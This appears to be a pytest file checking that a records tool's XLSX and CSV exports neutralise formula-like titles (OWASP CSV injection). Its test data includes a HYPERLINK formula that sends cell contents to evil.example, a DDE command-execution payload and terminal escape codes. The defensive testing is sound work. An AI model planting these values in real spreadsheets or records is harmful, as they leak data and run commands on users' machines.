"""Spreadsheet exports never plant a formula (issue 13, row 1; OWASP "CSV Injection").

Case and complaint titles are written by whoever edits a record. A title such as
`=HYPERLINK(...)` must reach the spreadsheet as text: in XLSX an explicit text cell with the
exact text (no `<f>` element anywhere in the workbook), in CSV with a leading apostrophe.
The legitimate twins (ordinary titles, `a=b` inside a title, real numbers) are unchanged.
"""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from helpers import copy_records

NOW = "2026-11-28T10:00"
PAYLOADS = {
    "cases/2026/11/PML-20261103-4QX.yaml": '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "cases/2026/11/PML-20261103-9RD.yaml": "+cmd|' /C calc'!A0",
    "cases/2026/11/PML-20261110-8HT.yaml": "@SUM(1+1)",
    "cases/2026/11/PML-20261116-5GW.yaml": "-2+3+4",
    "cases/2026/11/PML-20261119-Z3E.yaml": "\tTAB di awal",
    "cases/2026/11/PML-20261124-G8Y.yaml": "\nLF di awal\n=1+1",
    "complaints/2026/KLH-20261104-3RT.yaml": "=1+1+1",
}
TWINS = {  # legitimate titles that merely contain the characters
    "cases/2026/11/PML-20261125-D2X.yaml": "Rumus a=b+c tidak dihitung @ kolom 3",
    "cases/2026/11/PML-20261125-N6S.yaml": "#N/A muncul di laporan",
}


def _set_title(root: Path, rel: str, title: str) -> str:
    path = root / rel
    text = path.read_text(encoding="utf-8")
    new, count = re.subn(r"(?m)^title: .*$", lambda _: "title: " + json.dumps(title), text,
                         count=1)
    assert count == 1, rel
    path.write_text(new, encoding="utf-8")
    return path.stem


@pytest.fixture(scope="module")
def hostile_repo(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, dict[str, str]]:
    root = copy_records(tmp_path_factory.mktemp("formulas") / "repo")
    titles = {_set_title(root, rel, title): title for rel, title in {**PAYLOADS,
                                                                    **TWINS}.items()}
    return root, titles


def _sheet_xml(path: Path) -> str:
    with zipfile.ZipFile(path) as book:
        return "".join(book.read(name).decode("utf-8") for name in book.namelist()
                       if name.startswith("xl/worksheets/"))


@pytest.mark.parametrize("table", ["cases", "complaints"])
def test_xlsx_holds_text_never_formulas(cli: Callable[..., Any], tmp_path: Path, table: str,
                                        hostile_repo: tuple[Path, dict[str, str]]) -> None:
    root, titles = hostile_repo
    target = tmp_path / f"{table}.xlsx"
    result = cli("--repo", str(root), "export", table, "--format", "xlsx", "--out", str(target),
                 "--now", NOW)
    assert result.code == 0, result.err
    assert not re.search(r"<f[ >]", _sheet_xml(target))
    sheet = load_workbook(target).worksheets[0]
    header = [c.value for c in sheet[1]]
    id_col, title_col = 0, header.index("Judul" if table == "cases" else "Pokok")
    seen = 0
    for row in sheet.iter_rows(min_row=2):
        ident = row[id_col].value
        if ident not in titles:
            continue
        seen += 1
        cell = row[title_col]
        assert (cell.value, cell.data_type) == (titles[ident], "s"), ident
        assert cell.quotePrefix == titles[ident].startswith(("=", "+", "-", "@", "\t", "\r"))
    assert seen == (1 if table == "complaints" else len(titles) - 1)
    numbers = [c for row in sheet.iter_rows(min_row=2) for c in row if c.data_type == "n"]
    assert numbers or table == "complaints"  # real numbers stay numbers


def test_csv_cells_that_start_like_formulas_get_an_apostrophe(
        cli: Callable[..., Any], tmp_path: Path,
        hostile_repo: tuple[Path, dict[str, str]]) -> None:
    root, titles = hostile_repo
    target = tmp_path / "kasus.csv"  # a file, read as bytes: a CR inside a cell stays a CR
    result = cli("--repo", str(root), "export", "cases", "--out", str(target), "--now", NOW)
    assert result.code == 0, result.err
    text = target.read_bytes().decode("utf-8-sig")
    rows = {r["Nomor kasus"]: r for r in csv.DictReader(io.StringIO(text, newline=""))}
    for ident, title in titles.items():
        if ident.startswith("KLH"):
            continue
        expected = "'" + title if title.startswith(("=", "+", "-", "@", "\t", "\r")) else title
        assert rows[ident]["Judul"] == expected, ident
    assert rows["PML-20261103-4QX"]["Menit kerja sampai normal"].isdigit()


def test_control_characters_are_shown_not_refused(cli: Callable[..., Any],
                                                  tmp_path: Path) -> None:
    """openpyxl refuses C0 characters in a cell: an escape in a title must not stop the export."""
    root = copy_records(tmp_path / "repo")
    ident = _set_title(root, "cases/2026/11/PML-20261103-4QX.yaml", "\x1b[2K\rSEMUA BERES\x07")
    target = tmp_path / "kasus.xlsx"
    result = cli("--repo", str(root), "export", "cases", "--format", "xlsx", "--out",
                 str(target), "--now", NOW)
    assert result.code == 0, result.err
    sheet = load_workbook(target).worksheets[0]
    titles = {row[0]: row[1] for row in sheet.iter_rows(min_row=2, values_only=True)}
    assert titles[ident] == "\\u001b[2K\\rSEMUA BERES\\u0007"
